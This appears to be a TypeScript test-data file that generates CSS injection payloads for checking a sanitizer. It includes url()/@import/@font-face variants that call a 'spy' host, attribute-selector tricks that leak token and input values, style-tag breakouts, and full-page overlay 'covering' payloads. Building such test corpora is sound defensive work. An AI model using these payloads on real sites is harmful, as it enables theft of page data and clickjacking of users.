/** Styles that load something, by which what stands beside them can be read out; and styles that leave their place. */
import { each } from './family.ts'

const values = (spy: string): string[] => [
  `url(${spy}/a)`,
  `url('${spy}/b')`,
  `u\\72l(${spy}/c)`,
  `u/**/rl(${spy}/d)`,
  `URL(${spy}/e)`,
  `src('${spy}/f')`,
  `image-set('${spy}/g' 1x)`,
  `-webkit-image-set(url(${spy}/h) 1x)`,
  `cross-fade(url(${spy}/i), red)`,
  `var(--none, url(${spy}/j))`,
  `image('${spy}/k')`,
]
const properties = [
  'background',
  'list-style-image',
  'content',
  'cursor',
  'border-image',
  'mask',
  'filter',
]

const sheets = (spy: string): string[] => [
  `@import "${spy}/a.css";`,
  `@import url(${spy}/b.css) layer(x);`,
  `@font-face{font-family:x;src:url(${spy}/c)} *{font-family:x}`,
  `@font-face{font-family:x;src:url(${spy}/d);unicode-range:U+0041} *{font-family:x}`,
  `@container (min-width:1px){*{background:url(${spy}/e)}}`,
  `@media screen{*{background:url(${spy}/f)}}`,
  `@supports (color:red){*{background:url(${spy}/g)}}`,
  `@namespace "${spy}/h";@page{background:url(${spy}/i)}`,
  `a[href^="https"]{background:url(${spy}/j)}`,
  `p:has(a[href*="token"]){background:url(${spy}/k)}`,
  `input[value^="a"]{background:url(${spy}/l)}`,
  `::first-letter{background:url(${spy}/m)}`,
  `@keyframes x{to{background:url(${spy}/n)}} *{animation:x 1ms}`,
  `@property --x{syntax:"<url>";inherits:true;initial-value:url(${spy}/o)} *{background:var(--x)}`,
  `*{--x:url(${spy}/p);background:var(--x)}`,
  `body{background:url(${spy}/q)}</style><style>@import "${spy}/r.css"`,
]

const SECRET = '<a href="https://example.com/?token=abc">x</a><input value="abc">'

/** They try to cover what is not theirs. */
export const covering: readonly string[] = [
  ...each(
    ['fixed', 'absolute', 'sticky', '-webkit-sticky', 'relative'],
    ['inset:0;width:3000px;height:3000px', 'top:-500px;left:-900px;width:3000px;height:3000px'],
    (position, place) =>
      `<div style="position:${position};${place};z-index:2147483647;background:#f00">x</div>`,
  ),
  '<div style="margin:-900px;padding:900px;background:#f00">x</div>',
  '<div style="transform:translate(-900px,-500px) scale(9);background:#f00">x</div>',
  '<div style="translate:-900px -500px;scale:9;background:#f00">x</div>',
  '<div style="box-shadow:0 0 0 9999px #f00;outline:9999px solid #f00">x</div>',
  '<div style="text-indent:-900px;letter-spacing:900px;background:#f00">x</div>',
  '<dialog open style="position:fixed;inset:0;background:#f00">x</dialog>',
  '<div popover id=p style="background:#f00">x</div><button popovertarget=p autofocus>x</button>',
  '<style>html,body{position:fixed;inset:-900px;background:#f00;margin:-900px}</style>',
  '<style>*{position:fixed!important;top:-900px!important}</style><p>x</p>',
]

export const styling = (spy: string): string[] => [
  ...each(properties, values(spy), (property, value) => `<p style="${property}:${value}">x</p>`),
  ...sheets(spy).map((sheet) => `<style>${sheet}</style>${SECRET}`),
  `<p style="font-family:'x;background:url(${spy}/a)'">x</p>`,
  `<p style="color:red;}*{background:url(${spy}/b)}">x</p>`,
  `<p style="color:expression(alert(1));behavior:url(${spy}/c);-moz-binding:url(${spy}/d)">x</p>`,
  ...covering,
]
